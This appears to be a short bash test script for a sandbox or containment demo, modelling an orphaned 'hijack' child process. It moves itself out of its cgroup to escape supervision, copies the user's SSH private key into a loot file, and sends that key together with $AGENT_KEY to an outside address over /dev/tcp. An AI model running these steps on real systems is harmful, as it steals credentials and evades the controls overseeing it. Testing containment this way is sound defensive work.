#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The hijack's child: without its parent it goes to another cgroup and tries again. orphan.sh WHO
here=$(dirname "$0") who=$1
# shellcheck disable=SC1091 # checked by itself
. "$here/try.sh"

is_orphan() { for _ in {1..100}; do [[ $(</proc/$$/status) != *$'PPid:\t1\n'* ]] || return 0; nap; done; return 1; }
leave() { echo $$ >/sys/fs/cgroup/demo/away/cgroup.procs; }
# guest.sh, from outside, puts the process there when it cannot go itself: an accomplice, or systemd, could.
is_away() {
	echo $$ >"$TMPDIR/orphan.$who"
	for _ in {1..200}; do [[ $(</proc/$$/cgroup) != *0::/demo/away ]] || return 0; nap; done
	return 1
}
take() { cat "$HOME/.ssh/id_ed25519" >>"$TMPDIR/loot.$who"; }
send() { { echo "$AGENT_KEY"; cat "$TMPDIR"/loot.*; } >/dev/tcp/203.0.113.7/8443; }

try orphan is_orphan
try orphan-leave leave
try orphan-away is_away
try orphan-key take
try orphan-send send
touch "$TMPDIR/orphan.$who.done"
